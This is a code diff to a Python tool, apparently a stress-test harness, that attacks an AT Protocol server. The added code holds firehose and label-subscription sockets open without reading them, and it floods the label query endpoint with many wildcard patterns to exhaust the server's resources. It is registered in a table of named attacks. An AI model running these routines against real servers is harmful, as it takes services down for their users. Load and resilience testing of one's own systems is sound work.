@@ -5,6 +5,7 @@ sockets have time limits, so all of it ends by itself.
 """
 
 import base64
+import itertools
 import json
 import secrets
 import socket
@@ -207,14 +208,30 @@ def _forged(iss: str, aud: str, lxm: str) -> str:
 
 
 def unread_sockets(aim: Aim, address: str) -> None:
-    """Firehose readers that ask for everything and take nothing."""
-    target = "/xrpc/com.atproto.sync.subscribeRepos?cursor=0"
-    while not aim.is_over():
+    """Readers of firehose and labels that ask for everything and take nothing."""
+    nsids = ("com.atproto.sync.subscribeRepos", "com.atproto.label.subscribeLabels")
+    for nsid in itertools.cycle(nsids):
+        if aim.is_over():
+            return
         with suppress(OSError), connect(address, aim.port, SMALL_BUFFER) as made:
-            made.sendall(_handshake(aim, target))
+            made.sendall(_handshake(aim, f"/xrpc/{nsid}?cursor=0"))
             if made.recv(12)[9:] == b"101":
                 _hold(aim, made)
             time.sleep(0.2)
+
+
+def costly_patterns(aim: Aim, address: str) -> None:
+    """Questions about labels with as many patterns as a call takes, which match all or nothing."""
+    every = "".join(f"&uriPatterns=at://did:plc:{number:x}*" for number in range(99))
+    asked = (f"uriPatterns=*&limit=250{every}", f"uriPatterns=at://*{every}", f"limit=1{every}")
+    for query in itertools.cycle(asked):
+        if aim.is_over():
+            return
+        target = f"/xrpc/com.atproto.label.queryLabels?{query}"
+        with suppress(OSError), connect(address, aim.port) as made:
+            made.sendall(head("GET", target, aim.port, Connection="close"))
+            while made.recv(65_536):
+                pass
 
 
 def _handshake(aim: Aim, target: str) -> bytes:
@@ -306,7 +323,7 @@ _LONG = {"Content_Length": "90000000"}
 ATTACKS: dict[str, tuple[tuple[Attack, int], ...]] = {
     "long heads": ((long_heads, 2),),
     "containers": ((containers, 4),),
-    "unread blocks": ((unread_blocks, 12),),
+    "unread blocks": ((unread_blocks, 12), (costly_patterns, 4)),
     "slow transfers": ((slow_transfers, 20), (slow_uploads, 20)),
     "silent DIDs": ((silent_dids, 24),),
     "unread sockets": ((unread_sockets, 200),),
